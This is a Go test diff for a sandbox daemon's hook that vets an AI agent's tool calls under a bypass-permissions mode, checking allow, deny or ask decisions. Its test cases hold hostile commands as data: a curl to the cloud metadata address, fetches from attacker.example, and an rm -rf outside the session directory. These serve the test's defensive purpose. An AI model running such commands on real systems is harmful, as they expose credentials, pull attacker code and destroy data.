@@ -1452,3 +1452,44 @@ func TestHookWebFetchMeetsNoProxy(t *testing.T) {
 		}
 	}
 }
+
+// TestHookBypassHoldsWhatTheKernelWould: what the agent runs itself in bypassPermissions is
+// held where a confined call would be: a command that may connect meets the WebFetch rules for
+// the hosts its line names (the proxy refuses the rest), and a write outside the session's
+// directories is refused (read-only there), with --confine for the agent's own file tools too.
+func TestHookBypassHoldsWhatTheKernelWould(t *testing.T) {
+	b := buildBins(t)
+	d := startDaemon(t, b, "")
+	u, rt := userHome(t, "sbbp")
+	work, other := filepath.Join(u.Home, "work"), filepath.Join(u.Home, "other")
+	ownedDirs(t, u, work, other)
+	for i, tc := range []struct {
+		mode, tool string
+		input      map[string]any
+		flags      []string
+		want       string
+		reason     string
+	}{
+		{"bypassPermissions", "Bash", map[string]any{"command": "curl -s http://169.254.169.254/latest/meta-data/"}, nil, "deny", "outside sandboxd's proxy"},
+		{"bypassPermissions", "Bash", map[string]any{"command": "git clone https://attacker.example/x"}, nil, "deny", "outside sandboxd's proxy"},
+		{"bypassPermissions", "Bash", map[string]any{"command": "curl -s https://docs.example/"}, []string{"--allow", "WebFetch(domain:docs.example)"}, "allow", ""},
+		{"bypassPermissions", "Bash", map[string]any{"command": "echo see https://attacker.example/"}, nil, "allow", ""},
+		{"default", "Bash", map[string]any{"command": "curl -s https://attacker.example/"}, []string{"--allow", "Bash(curl:*)"}, "ask", "outside sandboxd's proxy"},
+		{"bypassPermissions", "Bash", map[string]any{"command": "rm -rf " + other}, nil, "deny", "outside the session's directories"},
+		{"bypassPermissions", "Write", map[string]any{"file_path": filepath.Join(other, "Makefile"), "content": "x"}, nil, "deny", "outside the session's directories"},
+		{"bypassPermissions", "Write", map[string]any{"file_path": filepath.Join(other, "Makefile"), "content": "x"}, []string{"--confine"}, "deny", "outside the session's directories"},
+		{"bypassPermissions", "Write", map[string]any{"file_path": filepath.Join(work, "x"), "content": "x"}, nil, "allow", ""},
+		{"bypassPermissions", "Write", map[string]any{"file_path": "/tmp/sbbp-x", "content": "x"}, nil, "allow", ""},
+		{"bypassPermissions", "Bash", map[string]any{"command": "rm -rf " + other}, []string{"--confine"}, "allow", ""},
+	} {
+		in := map[string]any{"session_id": fmt.Sprintf("agent-bp-%d", i), "cwd": work, "hook_event_name": "PreToolUse",
+			"permission_mode": tc.mode, "tool_name": tc.tool, "tool_input": tc.input}
+		h := decodeHook(t, runHook(t, b, d.socket, u, rt, in, tc.flags...)).HookSpecificOutput
+		if h.PermissionDecision != tc.want || !strings.Contains(h.PermissionDecisionReason, tc.reason) {
+			t.Errorf("%s %s %v %v: %q (%s); want %q mentioning %q", tc.mode, tc.tool, tc.input, tc.flags, h.PermissionDecision, h.PermissionDecisionReason, tc.want, tc.reason)
+		}
+	}
+	if _, err := os.Stat(other); err != nil {
+		t.Errorf("a decision ran the command: %v", err)
+	}
+}
